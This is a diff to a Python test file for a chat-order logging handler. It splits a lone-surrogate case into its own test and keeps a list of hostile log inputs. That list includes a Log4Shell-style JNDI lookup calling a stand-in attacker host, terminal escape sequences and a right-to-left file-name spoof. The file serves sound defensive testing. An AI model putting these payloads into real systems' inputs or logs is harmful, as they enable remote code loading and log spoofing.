@@ -17,7 +17,6 @@ HOSTILE = [
     "\x1b[2J\x1b[31mred\x1b]0;title\x07",
     "\u2028\u2029\x85\x0b\x0c",
     "${jndi:ldap://evil.example/a}",
-    "\ud800",
     '"}, {"',
     "\u202egpj.exe",
     "%s %(event)s {event}",
@@ -87,9 +86,18 @@ def test_what_clients_send_stays_on_its_line(
     assert (record["level"], record["logger"]) == ("warning", "order_chat.test")
 
 
-@pytest.mark.parametrize(
-    "text", [text for text in HOSTILE if not text.isprintable()], ids=ascii
-)
+def test_what_has_no_encoding_stays_on_its_line_too() -> None:
+    """A lone surrogate is no Unicode text; given to the handler itself, since not even the test
+    runner's reports can hold one."""
+    stream = io.StringIO()
+    record = logging.LogRecord("order_chat", logging.INFO, "", 0, "order %s", ("\ud800",), None)
+
+    handler_for(stream).emit(record)
+
+    assert the_record(stream)["event"] == "order \ud800"
+
+
+@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.isprintable()], ids=ascii)
 def test_nothing_moves_the_cursor_of_a_terminal(logger: logging.Logger, text: str) -> None:
     """People get one line too; the colours are ours (attack 28)."""
     terminal = Terminal()
